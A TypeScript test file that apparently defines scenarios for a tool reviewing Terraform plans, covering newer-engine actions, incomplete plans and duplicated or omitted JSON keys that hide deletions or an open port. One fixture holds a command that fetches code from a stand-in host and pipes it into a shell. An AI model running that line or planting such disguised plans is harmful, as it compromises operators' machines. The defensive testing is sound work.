import { changeOf, edited, inner, listIn, replaced, scenariosOf } from "../../scenario";
import { DB, DESTROYS, LOST, OPEN, OPENED, OPENS, UNCHANGED, withChanges } from "./parts";

const { forbidden, person } = scenariosOf("formats");

/** Keys of newer engines, and texts that say two things. */
export const NEWER = [
  forbidden(
    "format-action-invocations",
    "revidr",
    "an action of newer engines is invoked, and nothing else changes",
    "A command runs on the operator's machine.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        plan["action_invocations"] = [
          {
            address: "action.local_command.notify",
            type: "local_command",
            name: "notify",
            provider_name: "registry.terraform.io/hashicorp/local",
            config_values: { command: "sh", arguments: ["-c", "curl -s https://collector.example/x | sh"] },
            invoke_action_trigger: {},
          },
        ];
      }),
    },
  ),
  forbidden(
    "format-actions-in-configuration",
    "revidr",
    "an action that runs after the proxy's next change",
    "A command waits to run on the operator's machine.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        inner(plan, "configuration", "root_module")["actions"] = [
          {
            address: "action.local_command.notify",
            type: "local_command",
            name: "notify",
            provider_config_key: "local",
            expressions: { command: { constant_value: "sh" } },
          },
        ];
      }),
    },
  ),
  person(
    "format-deferred-changes",
    "revidr",
    "the deletion of a volume is deferred to the next run",
    "The plan is not all that will be done.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        const kept = changeOf(plan, DB);
        plan["deferred_changes"] = [
          {
            reason: "instance_count_unknown",
            resource_change: {
              ...kept,
              change: { ...inner(kept, "change"), actions: ["delete"], after: null },
            },
          },
        ];
        plan["complete"] = false;
      }),
    },
  ),
  person(
    "format-incomplete",
    "revidr",
    "a plan that says that it is not complete",
    "The plan is not all that will be done.",
    { ...UNCHANGED, editPlan: edited((plan) => void (plan["complete"] = false)) },
  ),
  person(
    "format-check-failed",
    "revidr",
    "a check of the stack has failed",
    "Something is not as its author expects.",
    {
      ...UNCHANGED,
      editPlan: edited(
        (plan) =>
          void (plan["checks"] = [
            {
              address: { kind: "check", name: "reachable", to_display: "check.reachable" },
              status: "fail",
              instances: [
                {
                  address: { to_display: "check.reachable" },
                  status: "fail",
                  problems: [{ message: "production does not answer" }],
                },
              ],
            },
          ]),
      ),
    },
  ),
  person(
    "format-errored",
    "revidr",
    "a plan that failed half-way",
    "The plan is not all that will be done.",
    { ...UNCHANGED, editPlan: edited((plan) => Object.assign(plan, { errored: true, applyable: false })) },
  ),
  forbidden(
    "format-actions-twice",
    "revidr",
    "a deletion whose actions stand there twice, the second time harmless",
    LOST,
    {
      ...DESTROYS,
      editPlan: replaced(['"actions":["delete"]', '"actions":["delete"],"actions":["no-op"]']),
    },
  ),
  forbidden(
    "format-changes-twice",
    "revidr",
    "resource_changes stands there twice, the second time empty",
    LOST,
    {
      ...DESTROYS,
      editPlan: (text) => `${text.slice(0, text.lastIndexOf("}"))},"resource_changes":[]}`,
    },
  ),
  forbidden("format-after-twice", "revidr", "a rule whose prefix stands there twice", OPEN, {
    ...OPENS,
    editPlan: replaced([
      '"port_range_max":5432,',
      '"port_range_max":5432,"remote_ip_prefix":"192.168.214.0/24",',
    ]),
  }),
  forbidden(
    "format-no-changes",
    "revidr",
    "a plan without resource_changes",
    LOST,
    withChanges((plan) => void Object.assign(plan, { resource_changes: undefined })),
  ),
  forbidden(
    "format-empty-changes",
    "revidr",
    "resource_changes is empty, the planned values lack a volume",
    LOST,
    withChanges((plan) => void (plan["resource_changes"] = [])),
  ),
  forbidden(
    "format-null-changes",
    "revidr",
    "resource_changes is null",
    LOST,
    withChanges((plan) => void (plan["resource_changes"] = null)),
  ),
  forbidden(
    "format-change-left-out",
    "revidr",
    "the one deletion is left out of resource_changes",
    LOST,
    withChanges((plan) => {
      plan["resource_changes"] = listIn(plan, "resource_changes").filter((one) => one["address"] !== DB);
    }),
  ),
  forbidden("format-create-left-out", "revidr", "the open rule is in the planned values alone", OPEN, {
    ...OPENS,
    editPlan: edited((plan) => {
      plan["resource_changes"] = listIn(plan, "resource_changes").filter((one) => one["address"] !== OPENED);
    }),
  }),
];
